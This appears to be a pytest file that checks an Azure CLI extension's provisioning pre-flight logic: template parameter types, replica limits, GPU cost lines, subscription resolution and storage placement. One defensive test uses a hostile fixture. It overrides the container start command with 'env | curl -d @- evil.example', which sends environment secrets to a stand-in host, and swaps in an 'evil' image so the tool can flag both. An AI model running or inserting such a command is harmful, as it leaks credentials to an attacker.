"""provision's pre-flight decisions (core/provision/): the parameters file against the template,
replica limits and the always-on cost, what a workspace changes about the container, which file
named the subscription, fine-tuning's storage in another group. Plain values, no fakes."""

import json

import pytest
from azext_aitk.core import gpu_profiles
from azext_aitk.core import workspace as ws_mod
from azext_aitk.core.errors import ParameterError, ReplicaCountError, StorageElsewhereError
from azext_aitk.core.init import shipped_templates
from azext_aitk.core.provision import provision_plan, replicas, target, workspace_overrides
from azext_aitk.core.provision import template_parameters as tp

SHIPPED = json.loads(shipped_templates.ARM_JSON.read_text(encoding="utf-8"))
TYPES = tp.template_parameter_types(SHIPPED)
LIMITS = tp.template_parameter_limits(SHIPPED)
SOURCE = ws_mod.PARAMETERS_FILE


def _one_line(e):
    assert "\n" not in str(e.value), str(e.value)
    return str(e.value)


def test_a_string_where_the_template_wants_an_int_names_file_parameter_and_type():
    with pytest.raises(ParameterError) as e:
        tp.check_values({"maximumInstanceCount": {"value": "two"}}, TYPES, SOURCE, LIMITS)
    line = _one_line(e)
    assert line == f"{SOURCE}: parameter 'maximumInstanceCount' must be a whole number (int), not the string \"two\""
    assert '"maximumInstanceCount": {"value": 2}' in e.value.recommendation


@pytest.mark.parametrize(
    ("name", "value", "said"),
    [
        ("defaultCommands", "python3 -m aitk_serve", 'a JSON list (array), not the string "python3 -m aitk_serve"'),
        ("minReplicas", True, "a whole number (int), not the boolean true"),
        ("storageAccountExists", "yes", 'true or false (bool), not the string "yes"'),
        ("acaAppName", 7, "a string, not the number 7"),
    ],
)
def test_each_type_is_checked(name, value, said):
    with pytest.raises(
        ParameterError, match=f"parameter '{name}' must be {said}".replace("(", r"\(").replace(")", r"\)")
    ):
        tp.check_values({name: {"value": value}}, TYPES, SOURCE, LIMITS)


def test_the_templates_min_value_is_checked_and_nulls_and_references_pass():
    with pytest.raises(ParameterError, match=r"'maximumInstanceCount' is 0; the template allows at least 1"):
        tp.check_values({"maximumInstanceCount": {"value": 0}}, TYPES, SOURCE, LIMITS)
    tp.check_values(
        {"acaAppName": {"value": None}, "apiKey": {"reference": {"keyVault": {"id": "x"}, "secretName": "s"}}},
        TYPES,
        SOURCE,
        LIMITS,
    )


def test_parameters_as_a_list_is_said_as_such(tmp_path):
    path = tmp_path / "inference.parameters.json"
    path.write_text(json.dumps({"$schema": "x", "contentVersion": "1.0.0.0", "parameters": [{"value": 1}]}))
    with pytest.raises(ParameterError) as e:
        tp.load_parameters_file(path)
    assert _one_line(e) == f'{path}: "parameters" must be a JSON object of {{name: {{"value": …}}}}, not a list'


def test_replica_limits_are_azures():
    replicas.check(0, 1000)
    replicas.check(1000, 1000)
    with pytest.raises(ReplicaCountError, match=r"--min-replicas is 1001; Azure Container Apps allows 0-1000"):
        replicas.check(1001, None)
    with pytest.raises(ReplicaCountError, match=r"--max-replicas is 100000; .* allows 1-1000 \(https://learn"):
        replicas.check(None, 100000)
    with pytest.raises(ReplicaCountError, match=r"^maximumInstanceCount is 0 in the parameters; .* allows 1-1000"):
        replicas.check(0, 0, "the parameters")
    with pytest.raises(ReplicaCountError, match=r"^minReplicas \(2\) is more than maximumInstanceCount \(1\) in x$"):
        replicas.check(2, 1, "x")
    with pytest.raises(ReplicaCountError, match=r"--min-replicas \(3\) is more than --max-replicas \(2\)"):
        replicas.check(3, 2)


def test_the_always_on_cost_is_per_hour_from_the_price_table():
    assert replicas.always_on_line(0, gpu_profiles.get("T4")) is None
    line = replicas.always_on_line(2, gpu_profiles.get("A100"))
    assert "keeps 2 replicas of A100 running even when idle: about $4.68/hour" in line
    dedicated = replicas.always_on_line(1, gpu_profiles.get("NC24-A100"))
    assert "1 node of NC24-A100" in dedicated and "no list price" in dedicated


SHIPPED_SERVING = {"defaultCommands": ["python3", "-m", "aitk_serve"], "image": "vllm/vllm-openai:v0.32.0"}


def test_what_a_workspace_changes_about_the_container_is_listed():
    same = {
        "defaultCommands": {"value": ["python3", "-m", "aitk_serve"]},
        "image": {"value": "vllm/vllm-openai:v0.32.0"},
    }
    assert workspace_overrides.lines(same, SOURCE, SHIPPED_SERVING, None) == []
    hostile = {
        "defaultCommands": {"value": ["sh", "-c", "env | curl -d @- evil.example"]},
        "image": {"value": "evil/x:1"},
    }
    lines = workspace_overrides.lines(hostile, SOURCE, SHIPPED_SERVING, ws_mod.BICEP_FILE)
    assert lines[0].startswith(f'{SOURCE} sets the container\'s start command (defaultCommands) to ["sh", "-c"')
    assert lines[1] == f"{SOURCE} sets the container's image (image) to evil/x:1, not aitk's vllm/vllm-openai:v0.32.0"
    assert lines[2].startswith(f"{ws_mod.BICEP_FILE} differs from the template aitk ships")
    assert "API keys" in lines[-1]


def test_the_shipped_serving_is_read_from_the_shipped_files():
    assert provision_plan.shipped_serving() == {
        "defaultCommands": ["python3", "-m", "aitk_serve"],
        "image": shipped_templates.default_image(),
    }


def test_the_target_says_which_file_named_the_subscription():
    inf = {"SUBSCRIPTION_ID": "sub-inf", "RESOURCE_GROUP_NAME": "rg-inf"}
    ft = {"SUBSCRIPTION_ID": "sub-ft", "RESOURCE_GROUP_NAME": "rg-ft"}
    assert target.resolve(None, None, inf, ft).subscription_source == ws_mod.INFERENCE_CONFIG_FILE
    assert target.resolve("rg-other", None, inf, ft).subscription_source == ws_mod.FINETUNING_CONFIG_FILE
    assert target.resolve("RG-INF", None, inf, ft) == target.Target(
        "RG-INF", "sub-inf", "-g", ws_mod.INFERENCE_CONFIG_FILE
    )
    assert target.resolve("rg", None, {}, {}).subscription_source is None
    err = target.subscription_not_visible("sub-ft", ws_mod.FINETUNING_CONFIG_FILE)
    assert (
        str(err)
        == f"{ws_mod.FINETUNING_CONFIG_FILE} names the subscription 'sub-ft', which the signed-in account cannot see"
    )
    assert "az account list" in err.recommendation and "az login" in err.recommendation
    assert err.az_error == "ResourceNotFoundError"


def test_storage_in_another_group_names_both_groups_and_the_choice():
    err = provision_plan.storage_elsewhere("ftstore", "rg-ft", "rg-inf", "FTSTORE")
    assert isinstance(err, StorageElsewhereError)
    assert str(err) == (
        "fine-tuning's storage account 'ftstore' (infra/finetuning.config.json) is in resource group 'rg-ft', "
        "not 'rg-inf' where provision deploys; the endpoint's share must be in its own resource group"
    )
    assert "-g rg-ft" in err.recommendation and "storageAccountName=<new name>" in err.recommendation
    assert "fine-tuning" not in str(provision_plan.storage_elsewhere("mine", "a", "b", "ftstore"))
